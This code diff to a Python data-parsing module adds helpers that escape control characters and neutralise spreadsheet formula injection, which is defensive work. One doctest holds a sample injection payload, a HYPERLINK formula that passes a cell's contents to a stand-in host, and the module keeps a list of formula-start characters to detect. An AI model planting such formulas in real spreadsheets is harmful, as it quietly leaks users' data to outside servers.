@@ -16,7 +16,18 @@ from decimal import Decimal, InvalidOperation
 from geo.columns import AREA_UNITS, LENGTH_UNITS, LEVELS, OTHER_LEVELS, PARTS
 from geo.errors import ValueProblem
 
-__all__ = ["Figure", "fold", "parse_figure", "parse_level", "parse_number", "parse_part", "split_header", "well_key"]
+__all__ = [
+    "inert",
+    "spreadsheet_safe",
+    "Figure",
+    "fold",
+    "parse_figure",
+    "parse_level",
+    "parse_number",
+    "parse_part",
+    "split_header",
+    "well_key",
+]
 
 #: A number as officers type it: plain, or with valid thousands groups ("1,099.0").
 _NUMBER = re.compile(r"[+-]?(?:[1-9]\d{0,2}(?:,\d{3})+|\d+)(?:\.\d+)?|[+-]?\.\d+")
@@ -205,6 +216,32 @@ def parse_part(text: str) -> str:
         if folded == word:
             return name
     return unicodedata.normalize("NFKC", text).strip()
+
+
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+
+
+def inert(text: str) -> str:
+    r"""Text with control characters shown escaped (ESC as "\x1b"): safe for terminals, XML and workbooks.
+
+    Examples
+    --------
+    >>> inert("北关\x1b[31m水源\x00")
+    '北关\\x1b[31m水源\\x00'
+    """
+    return _CONTROL.sub(lambda m: f"\\x{ord(m[0]):02x}", text)
+
+
+def spreadsheet_safe(text: str) -> str:
+    r"""A text cell no spreadsheet takes for a formula (OWASP CSV injection: a quote before = + - @, tab, CR).
+
+    Examples
+    --------
+    >>> spreadsheet_safe('=HYPERLINK("http://x/?"&A1,"点击")'), spreadsheet_safe("北关"), spreadsheet_safe("-")
+    ('\'=HYPERLINK("http://x/?"&A1,"点击")', '北关', "'-")
+    """
+    return "'" + inert(text) if text[:1] in _FORMULA_START else inert(text)
 
 
 def well_key(well_no: str) -> str:
